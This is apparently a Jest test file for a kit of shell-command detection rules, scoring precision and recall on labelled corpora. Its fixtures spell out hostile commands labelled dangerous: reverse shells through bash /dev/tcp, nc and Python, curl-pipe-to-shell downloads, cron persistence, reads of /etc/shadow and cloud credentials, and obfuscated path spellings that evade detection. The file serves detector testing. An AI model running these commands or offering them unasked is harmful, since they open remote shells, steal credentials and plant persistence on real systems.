import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import * as path from 'node:path';
import { readCorpus, scoreCorpus, type CorpusLine, type CorpusScore } from './corpus';
import { loadRules } from './schema';
import type { RuleDef } from './types';

const SHARED_DEV = path.resolve(__dirname, '../../shared/corpora/commands/dev.jsonl');
const KIT_DEV = path.join(__dirname, 'corpus', 'dev.jsonl');
const KIT_HOLDOUT = path.join(__dirname, 'corpus', 'holdout.jsonl');
const FRESH_DEV = path.join(__dirname, 'corpus', 'fresh-dev.jsonl');
const FRESH_HOLDOUT = path.join(__dirname, 'corpus', 'fresh-holdout.jsonl');
const FRESH3_DEV = path.join(__dirname, 'corpus', 'fresh3-dev.jsonl');
const FRESH3_HOLDOUT = path.join(__dirname, 'corpus', 'fresh3-holdout.jsonl');

function table(name: string, s: CorpusScore): string {
  const rows = s.categories.map((c) => `  ${c.category.padEnd(28)} P=${c.precision.toFixed(2)} R=${c.recall.toFixed(2)} (tp ${c.tp} fp ${c.fp} fn ${c.fn} tn ${c.tn})`);
  return `${name}: overall P=${s.overall.precision.toFixed(3)} R=${s.overall.recall.toFixed(3)} (tp ${s.overall.tp} fp ${s.overall.fp} fn ${s.overall.fn} tn ${s.overall.tn})\n${rows.join('\n')}`;
}

function detail(s: CorpusScore): string {
  return `missed:\n${s.misses.map((m) => `  ${m.category}: ${m.command}`).join('\n')}\nfalse alarms:\n${s.falseAlarms.map((m) => `  ${m.category}: ${m.command} [${m.rules.join(', ')}]`).join('\n')}`;
}

/** Overall floors, then per category: precision always, recall where the category has enough positives. */
function expectFloors(s: CorpusScore, f: { p: number; r: number; catP: number; catR: number; minPositives: number }): void {
  expect(s.overall.precision).toBeGreaterThanOrEqual(f.p);
  expect(s.overall.recall).toBeGreaterThanOrEqual(f.r);
  for (const c of s.categories) {
    expect({ category: c.category, precisionOk: c.precision >= f.catP }).toEqual({ category: c.category, precisionOk: true });
    if (c.tp + c.fn >= f.minPositives) expect({ category: c.category, recallOk: c.recall >= f.catR }).toEqual({ category: c.category, recallOk: true });
  }
}

let rules: RuleDef[];
beforeAll(async () => {
  rules = await loadRules([path.join(__dirname, 'builtin')]);
});

const d = existsSync(SHARED_DEV) ? describe : describe.skip;
if (!existsSync(SHARED_DEV)) console.warn(`labelled command corpus not found at ${SHARED_DEV}: skipping its precision/recall`);

d('built-in packs on the shared labelled command corpus (dev split)', () => {
  it('reach the achieved precision and recall overall and per category', () => {
    const s = scoreCorpus(rules, readCorpus(SHARED_DEV));
    console.log(`${table('shared dev.jsonl', s)}\n${detail(s)}`);
    // Achieved: P 1.000, R 0.996 (one miss: a bare `sudo ./execve_hijack`, nothing in the arguments to go on).
    expectFloors(s, { p: 1, r: 0.996, catP: 1, catR: 0.8, minPositives: 5 });
  });
});

describe("the kit's own labelled corpus (rules/corpus)", () => {
  it('is split by the hash of each command, with valid labels and a source on every line', () => {
    const files = [[KIT_DEV, 'dev', 250], [KIT_HOLDOUT, 'holdout', 250], [FRESH_DEV, 'dev', 150], [FRESH_HOLDOUT, 'holdout', 150], [FRESH3_DEV, 'dev', 250], [FRESH3_HOLDOUT, 'holdout', 150]] as const;
    const seen = new Map<string, string>();
    for (const [file, split, min] of files) {
      const lines = readCorpus(file) as Array<ReturnType<typeof readCorpus>[number] & { source?: string }>;
      expect(lines.length).toBeGreaterThan(min);
      for (const l of lines) {
        const h = parseInt(createHash('sha256').update(l.command).digest('hex').slice(0, 8), 16) % 100;
        expect({ command: l.command, split: h < 40 ? 'holdout' : 'dev' }).toEqual({ command: l.command, split });
        expect(['dangerous', 'benign']).toContain(l.label);
        expect(l.category).toMatch(/^[a-z_]+$/);
        expect(l.source ?? '').not.toEqual('');
        // No command is labelled twice across the kit's files (the fresh batch was checked against the older one).
        expect({ command: l.command, file: seen.get(l.command) ?? file }).toEqual({ command: l.command, file });
        seen.set(l.command, file);
      }
    }
  });

  it('dev split: the rules were written against it; regressions fail', () => {
    const s = scoreCorpus(rules, readCorpus(KIT_DEV));
    console.log(`${table('rules/corpus/dev.jsonl', s)}\n${detail(s)}`);
    // Achieved: P 1.000, R 1.000 (273 dangerous, 204 benign).
    expectFloors(s, { p: 1, r: 1, catP: 1, catR: 1, minPositives: 5 });
  });

  it('held-out split: only the per-category figures are printed, never its lines', () => {
    const s = scoreCorpus(rules, readCorpus(KIT_HOLDOUT));
    // Deliberately no list of misses or false alarms: the split stays unseen while rules are written.
    console.log(table('rules/corpus/holdout.jsonl', s));
    // Achieved: P 1.000, R 0.971 (before the rewrite: P 0.991, R 0.536; before the fresh-batch widening: R 0.962;
    // before the third batch's widening: R 0.967).
    expectFloors(s, { p: 1, r: 0.97, catP: 1, catR: 0.83, minPositives: 5 });
  });

  // The fresh batch (README: "Fresh batch"): written from technique pages before the rules were read.
  // Before any rule change (the generalisation estimate): fresh-dev P 0.978 R 0.727, fresh-holdout P 0.940 R 0.750.
  // After the rules were widened from the technique (issue 15 §3): fresh-dev P 1.000 R 0.989, fresh-holdout P 0.967 R 0.846;
  // after the third batch's widening: fresh-holdout P 0.968 R 0.875.
  it('fresh dev split: its misses and false alarms are what the rules were widened from', () => {
    const s = scoreCorpus(rules, readCorpus(FRESH_DEV));
    console.log(`${table('rules/corpus/fresh-dev.jsonl', s)}\n${detail(s)}`);
    expectFloors(s, { p: 1, r: 0.989, catP: 1, catR: 0.88, minPositives: 5 });
  });

  it('fresh held-out split: only the per-category figures are printed, never its lines', () => {
    const s = scoreCorpus(rules, readCorpus(FRESH_HOLDOUT));
    console.log(table('rules/corpus/fresh-holdout.jsonl', s));
    expectFloors(s, { p: 0.967, r: 0.874, catP: 0.66, catR: 0.72, minPositives: 5 });
  });

  // The third fresh batch (README: "Third fresh batch"): written before the rules were read, from techniques and tools
  // the older batches do not use. Before any rule change: fresh3-dev P 0.993 R 0.932, fresh3-holdout P 0.945 R 0.905.
  // After widening from fresh3-dev's misses and from technique variants (never from the held-out lines):
  // fresh3-dev P 1.000 R 0.994, fresh3-holdout P 0.947 R 0.947.
  it('third fresh dev split: its misses and false alarms are what the rules were widened from', () => {
    const s = scoreCorpus(rules, readCorpus(FRESH3_DEV));
    console.log(`${table('rules/corpus/fresh3-dev.jsonl', s)}\n${detail(s)}`);
    expectFloors(s, { p: 1, r: 0.993, catP: 1, catR: 0.87, minPositives: 5 });
  });

  it('third fresh held-out split: only the per-category figures are printed, never its lines', () => {
    const s = scoreCorpus(rules, readCorpus(FRESH3_HOLDOUT));
    console.log(table('rules/corpus/fresh3-holdout.jsonl', s));
    expectFloors(s, { p: 0.946, r: 0.946, catP: 0, catR: 0.8, minPositives: 5 });
  });
});

// Written before the lexer read inside a container's exec (then 3 of 10 dangerous caught, 0 false alarms): an
// attacker with a cluster's credentials runs the same techniques through `kubectl exec`/`docker exec`.
const CONTAINER_EXEC: CorpusLine[] = [
  ['kubectl exec -it web-0 -- cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'credential_access'],
  [`docker exec -u 0 app bash -c 'bash -i >& /dev/tcp/10.10.14.7/4444 0>&1'`, 'reverse_shell'],
  [`kubectl exec api-5d -- sh -c 'curl -s http://198.51.100.7/x.sh | sh'`, 'download_execute'],
  ['podman exec -it c1 nsenter -t 1 -m -u -i -n sh', 'privesc_container'],
  ['docker exec db cat /etc/shadow', 'credential_access'],
  ['kubectl exec -it pod-1 -- nc -e /bin/sh 10.10.14.7 4444', 'reverse_shell'],
  [`kubectl -n prod exec pod-1 -c app -- python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("10.10.14.7",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'`, 'reverse_shell'],
  [`docker exec -it web sh -c 'echo "* * * * * root curl -s http://198.51.100.7/a|sh" >> /etc/crontab'`, 'persistence_cron'],
  ['nerdctl exec -u root c2 iptables -F', 'firewall_disable'],
  [`docker exec app sh -c 'cat /root/.aws/credentials'`, 'credential_access'],
].map(([command, category]) => ({ command: command as string, category: category as string, label: 'dangerous' as const }));
const CONTAINER_EXEC_BENIGN: CorpusLine[] = [
  ['docker exec -it web sh', 'privesc_container'],
  ['kubectl exec -it pod -- bash', 'privesc_container'],
  ['docker exec db pg_dump -U postgres app > app.sql', 'exfiltration'],
  ['kubectl exec pod -- cat /etc/nginx/nginx.conf', 'credential_access'],
  ['docker exec -it redis redis-cli ping', 'privesc_container'],
  ['kubectl exec -n prod api-0 -- env', 'credential_access'],
  ['docker exec web ls -la /var/www', 'recon_exposure'],
  ['kubectl exec pod -- curl -s localhost:8080/healthz', 'download_execute'],
  ['docker exec -w /app web npm run migrate', 'privesc_container'],
  ['kubectl exec deploy/api -- tail -n 100 /var/log/app.log', 'log_wiping'],
].map(([command, category]) => ({ command: command as string, category: category as string, label: 'benign' as const }));

describe('built-in packs on commands run through a container CLI\'s exec', () => {
  it('catch the techniques inside `kubectl exec`/`docker exec` as on the host, and leave ordinary container work alone', () => {
    const s = scoreCorpus(rules, [...CONTAINER_EXEC, ...CONTAINER_EXEC_BENIGN]);
    console.log(`${table('container exec', s)}\n${detail(s)}`);
    expect({ missed: s.misses.map((m) => m.command), falseAlarms: s.falseAlarms.map((m) => m.command) }).toEqual({ missed: [], falseAlarms: [] });
  });
});

// Path spellings (MITRE T1027.010, the PayloadsAllTheThings wildcard and brace bypasses), written before the lexer
// read them: of 18 reads of /etc/shadow then 12 were caught, of 7 brace spellings none. `cat //etc//shadow`,
// `/etc/sh?dow`, `/e*c/shad*`, `sha[d]ow` and the braces are now; `cd /etc && cat shadow` is still not (README,
// "What the lexer does not read"). `cp /etc/sudoers{,.bak}` alerts, as `cp /etc/sudoers /etc/sudoers.bak` does.
const SPELLED: CorpusLine[] = [
  ...['cat /etc/sh?dow', 'cat /e*c/shad*', 'cat //etc//shadow', 'cat /etc/sha[d]ow', 'cat /etc/../etc/shadow', 'cat /etc/./shadow', "c'a't /etc/shadow", 'cat /etc/sha\'\'dow', 'a=cat; $a /etc/shadow', 'cat${IFS}/etc/shadow', '/???/c?t /etc/shadow'].map(
    (command) => ({ command, category: 'credential_access', label: 'dangerous' as const }),
  ),
  ...['{cat,/etc/shadow}', 'cat /etc/{shadow,passwd}', 'cat /etc/sh{a,}dow', 'cp /etc/{shadow,passwd} /tmp/'].map((command) => ({ command, category: 'credential_access', label: 'dangerous' as const })),
  { command: '{nc,-e,/bin/sh,10.10.14.7,4444}', category: 'reverse_shell', label: 'dangerous' },
  { command: '{chmod,u+s,/bin/bash}', category: 'privesc_suid', label: 'dangerous' },
  { command: '{rm,-rf,/var/log/auth.log}', category: 'log_wiping', label: 'dangerous' },
  ...['cat /etc/passwd', 'ls -l /etc/shadow', 'tar czf etc.tgz /etc/*', 'ls /etc/sh*', 'chmod 640 /etc/sh?dow', 'chmod 640 /etc/{shadow,gshadow}'].map((command) => ({ command, category: 'credential_access', label: 'benign' as const })),
  ...['mkdir -p /srv/app/{logs,tmp}', 'cp /etc/nginx/nginx.conf{,.bak}', 'cp /etc/ssh/sshd_config{,.orig}', 'touch /tmp/{a,b,c}.txt', 'ls -l /var/log/{syslog,auth.log}'].map((command) => ({ command, category: 'persistence_ssh_keys', label: 'benign' as const })),
];

describe('built-in packs on sensitive paths and commands spelled another way', () => {
  it('read //, /./, /../, globs and braces as the kernel and the shell do', () => {
    const s = scoreCorpus(rules, SPELLED);
    console.log(`${table('path spellings', s)}\n${detail(s)}`);
    expect({ missed: s.misses.map((m) => m.command), falseAlarms: s.falseAlarms.map((m) => m.command) }).toEqual({ missed: [], falseAlarms: [] });
  });
});
